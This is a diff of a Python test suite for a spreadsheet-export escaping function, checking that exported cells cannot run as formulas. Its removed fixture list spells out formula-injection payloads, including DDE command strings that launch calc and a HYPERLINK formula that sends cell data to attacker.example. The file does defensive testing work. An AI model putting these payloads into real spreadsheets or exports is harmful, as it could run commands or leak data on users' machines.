@@ -15,49 +15,19 @@ from hypothesis import strategies as st
 from clv_core.strategy.exports.files import write_any, write_csv
 from clv_core.strategy.exports.spreadsheet import escape, escape_frame
 from clv_core.strategy.exports.workbook import write_xlsx
-from tests.strategy.unescaped import unescape
+from tests.strategy import lists
+from tests.strategy.lists import TRIGGERS, unescape
 
-TRIGGERS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"
+SIGNS = set("".join(TRIGGERS))
 PAYLOADS = [
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    "%0A-3+3+cmd|' /C calc'!D2",
-    '"=1+1"',
-    " =1+1",
-    "\u3000=1+1",
-    "\xa0\u200b=1+1",
-    "\x00=1+1",
-    ";=1+1",
-    '=1+1",=2+2,"',
-    "'=1+1",
-    "''",
-    "=\u200b1+1",
-    "-",
-    "plain",
-    "",
-    "007",
-    "_x0041_=1",
-]
-NUMBERS = ["-12.5", "+3", "-1e9", "42"]
-CELLS = st.text(alphabet=st.one_of(st.sampled_from(TRIGGERS + "' \"1a,;"), st.characters(exclude_categories=["Cs"])))
+    *lists.PAYLOADS, "\u3000=1+1", "\xa0\u200b=1+1", "''", "-", "plain", "", "007", "_x0041_=1",
+]  # fmt: skip
+CELLS = st.text(alphabet=st.one_of(st.sampled_from([*TRIGGERS, *"' \"1a,;"]), st.characters(exclude_categories=["Cs"])))
 
 
 def inert(text: str) -> bool:
     number = re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", text) is not None
-    return (
-        number or not text or (text[0] not in TRIGGERS and text.lstrip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20"))
-    )
+    return number or not text or not {text[0], text.lstrip()[:1]} & SIGNS
 
 
 @given(st.lists(CELLS, max_size=20), st.sampled_from(["str", "object", "category"]))
@@ -71,24 +41,22 @@ def test_any_text_becomes_inert_and_comes_back(texts: list[str], kind: str) -> N
 def test_exactly_one_quote_is_added_where_one_is_needed() -> None:
     safe = escape(pd.Series(PAYLOADS)).tolist()
     for before, after in zip(PAYLOADS, safe, strict=True):
-        dangerous = before[:1] in set(TRIGGERS + "'") or before.strip(" \u3000\xa0\u200b")[:1] in set(TRIGGERS)
+        dangerous = before[:1] in SIGNS | {"'"} or before.strip(" \u3000\xa0\u200b")[:1] in SIGNS
         assert after == ("'" + before if before and dangerous else before)
 
 
 def test_numbers_are_never_touched() -> None:
-    assert escape(pd.Series(NUMBERS)).tolist() == NUMBERS
+    numbers = ["-12.5", "+3", "-1e9", "42"]
+    assert escape(pd.Series(numbers)).tolist() == numbers
     frame = pd.DataFrame({"a": [-1.5, 2.0], "b": [-3, 4], "c": [True, False]})
     pd.testing.assert_frame_equal(escape_frame(frame), frame)
 
 
-def test_missing_and_mixed_cells_stay_what_they_are() -> None:
+def test_missing_and_mixed_cells_stay_what_they_are_and_column_names_are_made_inert() -> None:
     cells = pd.Series(["=1", None, 3, -2.5], dtype=object)
     safe = escape(cells)
     assert safe[0] == "'=1" and pd.isna(safe[1]) and safe[2] == 3 and safe[3] == -2.5
     assert cells[0] == "=1"
-
-
-def test_column_names_are_made_inert_too() -> None:
     assert escape_frame(pd.DataFrame({"=A1": [1], "b": [2]})).columns.tolist() == ["'=A1", "b"]
 
 
@@ -145,9 +113,7 @@ def decode(text: str) -> str:
     return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)
 
 
-def test_a_workbook_read_back_has_no_formula_is_recoverable_and_says_what_it_is(
-    frame: pd.DataFrame, tmp_path: Path
-) -> None:
+def test_a_workbook_read_back_is_inert_and_says_what_it_is(frame: pd.DataFrame, tmp_path: Path) -> None:
     path = write_xlsx(frame, tmp_path / "list.xlsx", {"dataset": "cdnow", "cutoff": "1998-07-01", "segment": "=x"})
     cells, about = read_xlsx(path)
     rows = range(2, len(PAYLOADS) + 2)
